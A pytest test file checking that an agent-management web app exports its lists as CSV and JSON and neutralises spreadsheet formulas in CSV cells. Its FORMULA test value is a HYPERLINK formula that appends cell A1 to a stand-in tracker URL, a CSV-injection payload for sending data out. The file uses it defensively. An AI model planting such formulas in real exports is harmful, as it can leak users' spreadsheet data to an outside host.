"""Lists as CSV and JSON: whole, filtered as the page is, and nothing that a spreadsheet would compute."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from uuid import uuid4

import httpx
import pytest

from folkmoot.errors import InvalidInput
from folkmoot.store.paging import Page
from folkmoot.web import tables
from folkmoot.web.tables import LONGEST_CELL, as_file
from support.fixtures import NewAgent, NewBlock

FORMULA = '=HYPERLINK("https://tracker.invalid/?"&A1)'


def rows_of(http: httpx.Client, path: str, name: str) -> list[dict[str, str]]:
    """Return the rows of a list's CSV, which a browser downloads under its name."""
    answer = http.get(path).raise_for_status()
    assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_activity_says_of_a_read_only_block_that_it_can_be_read(
    http: httpx.Client, new_agent: NewAgent, new_block: NewBlock
) -> None:
    policies, notes = new_block(read_only=True), new_block()
    agent = new_agent(block_ids=[policies.id, notes.id])
    told = [row["what"] for row in rows_of(http, f"/activity?agent={agent.id}&kind=attachment&format=csv", "activity")]
    assert told == [f"was given the block {notes.label}, write", f"was given the block {policies.label}, read only"]


def test_lists_are_files(http: httpx.Client, new_agent: NewAgent, new_block: NewBlock) -> None:
    mark = f"listed_{uuid4().hex[:8]}"
    block = new_block(label=mark, value="Zoë\nsecond", tags=["a", "b"])
    agent = new_agent(name=mark, description=FORMULA, block_ids=[block.id])
    said = f'ECHO {FORMULA}\n"two", lines'
    http.post(f"/v1/agents/{agent.id}/messages", json={"input": said}).raise_for_status()

    [agent_row] = rows_of(http, f"/agents?q={mark}&format=csv", "agents")
    assert (agent_row["id"], agent_row["blocks"], agent_row["description"]) == (agent.id, mark, f"'{FORMULA}")
    [block_row] = rows_of(http, f"/blocks?q={mark}&format=csv", "blocks")
    assert (block_row["id"], block_row["characters"], block_row["agents"]) == (block.id, "10", "1")
    [run_row] = rows_of(http, f"/runs?agent={agent.id}&format=csv", "runs")
    assert (run_row["asked"], run_row["answered"]) == (said, f"'{said.removeprefix('ECHO ')}")
    assert (run_row["agent"], run_row["steps"], run_row["status"]) == (mark, "1", "completed")

    for path, name in (
        (f"/agents?q={mark}", "agents"),
        (f"/blocks?q={mark}", "blocks"),
        (f"/runs?agent={agent.id}", "runs"),
    ):
        [row] = http.get(f"{path}&format=json").raise_for_status().json()
        assert row["id"] in (agent.id, block.id, run_row["id"])
        assert f"format=csv&amp;{path.partition('?')[2]}" in http.get(path).text, f"{name} offers its file"
    assert http.get(f"/agents?q={mark}&format=json").json()[0]["description"] == FORMULA
    assert rows_of(http, f"/agents?q=no{mark}&format=csv", "agents") == []


def test_every_other_list_is_a_file_too(http: httpx.Client, new_agent: NewAgent, new_block: NewBlock) -> None:
    mark = f"listed{uuid4().hex[:8]}"
    block = new_block(label=mark, value=f"a {mark} line")
    agent = new_agent(name=mark, tools=["web_search"], block_ids=[block.id])
    made = {"name": mark, "description": FORMULA}
    archive = http.post("/v1/archives", json=made).raise_for_status().json()["id"]
    folder = http.post("/v1/folders", json=made).raise_for_status().json()["id"]
    key = {"name": mark, "blocks": [{"block": mark, "access": "append"}], "agents": [mark]}
    member = http.post("/v1/keys", json=key).raise_for_status().json()["id"]
    said = [{"role": "user", "content": FORMULA}]
    daily = {"type": "recurring", "cron_expression": "0 9 * * *", "timezone": "Europe/Berlin"}
    http.post(f"/v1/agents/{agent.id}/schedule", json={"messages": said, "schedule": daily}).raise_for_status()

    [archive_row] = rows_of(http, f"/archives?q={mark}&format=csv", "archives")
    assert (archive_row["id"], archive_row["description"], archive_row["passages"]) == (archive, f"'{FORMULA}", "0")
    [folder_row] = rows_of(http, f"/folders?q={mark}&format=csv", "folders")
    assert (folder_row["id"], folder_row["files"], folder_row["bytes"]) == (folder, "0", "0")
    [tool_row] = rows_of(http, "/tools?q=web_search&kind=built-in&format=csv", "tools")
    assert (tool_row["name"], tool_row["kind"]) == ("web_search", "Built in")
    assert int(tool_row["agents"]) >= 1
    [key_row] = [row for row in rows_of(http, "/members?format=csv", "members") if row["id"] == member]
    assert (key_row["name"], key_row["blocks"], key_row["agents"]) == (mark, f"{mark}:append", mark)
    [schedule_row] = rows_of(http, f"/agents/{agent.id}/schedules", "schedules")
    assert (schedule_row["said"], schedule_row["cron"]) == (f"'{FORMULA}", "0 9 * * *")
    [held] = rows_of(http, f"/activity?agent={agent.id}&kind=attachment&format=csv", "activity")
    assert (held["who"], held["what"]) == (mark, f"was given the block {mark}, write")
    hits = http.get(f"/search?q={mark}&format=json").raise_for_status().json()
    assert {(hit["kind"], hit["address"]) for hit in hits} == {
        ("blocks", f"/blocks/{block.id}"),
        ("agents", f"/agents/{agent.id}"),
    }
    assert [hit["text"] for hit in hits if hit["kind"] == "blocks"] == [f"a {mark} line"]


def test_what_was_taken_and_deleted_is_in_the_file_of_activity(
    http: httpx.Client, new_agent: NewAgent, new_block: NewBlock
) -> None:
    mark = f"gone{uuid4().hex[:8]}"
    block = new_block(label=mark)
    agent = new_agent(name=mark, block_ids=[block.id])
    begun = http.post("/v1/conversations", params={"agent_id": agent.id}, json={"summary": mark}).raise_for_status()
    archive = http.post("/v1/archives", json={"name": mark}).raise_for_status().json()["id"]
    for method, path in (
        ("PATCH", f"/v1/agents/{agent.id}/archives/attach/{archive}"),
        ("PATCH", f"/v1/agents/{agent.id}/archives/detach/{archive}"),
        ("PATCH", f"/v1/agents/{agent.id}/core-memory/blocks/detach/{block.id}"),
        ("DELETE", f"/v1/conversations/{begun.json()['id']}"),
        ("DELETE", f"/v1/blocks/{block.id}"),
    ):
        http.request(method, path).raise_for_status()
    told = [row["what"] for row in rows_of(http, "/activity?format=csv", "activity") if mark in row["what"]]
    assert told[:4] == [
        f"deleted the block {mark}",
        f"deleted a conversation “{mark}” of {mark}",
        f"took the block {mark} from {mark}",
        f"took the archive {mark} from {mark}",
    ]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(begins: str) -> None:
    row: dict[str, Any] = {"id": f"{begins}1+1", "number": -1}
    body = bytes(as_file("x", "csv", ("id", "number"), [row]).body).decode()
    assert list(csv.reader(io.StringIO(body, newline=""))) == [["id", "number"], [f"'{begins}1+1", "-1"]]


def test_a_text_is_cut_in_a_cell_and_whole_in_json() -> None:
    row = {"id": "x", "what": "=" + "y" * 200_000}
    [_, cells] = csv.reader(io.StringIO(bytes(as_file("x", "csv", ("id", "what"), [row]).body).decode(), newline=""))
    assert cells == ["x", f"'={'y' * (LONGEST_CELL - 3)}…"]
    assert json.loads(bytes(as_file("x", "json", ("id", "what"), [row]).body)) == [row]


def test_a_list_is_whole_or_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    stored = [{"id": str(number)} for number in range(10)]

    async def rows_of(page: Page) -> list[dict[str, str]]:
        start = 0 if page.after is None else int(page.after) + 1
        return stored[start : start + page.limit]

    monkeypatch.setattr(tables, "ROWS_AT_ONCE", 4)
    with ThreadPoolExecutor(1) as apart:  # the browser's tests leave a loop running in this thread
        assert apart.submit(asyncio.run, tables.all_rows(rows_of)).result() == stored
        monkeypatch.setattr(tables, "MOST_ROWS", 9)
        with pytest.raises(InvalidInput, match="more than 9 rows; filter it"):
            apart.submit(asyncio.run, tables.all_rows(rows_of)).result()
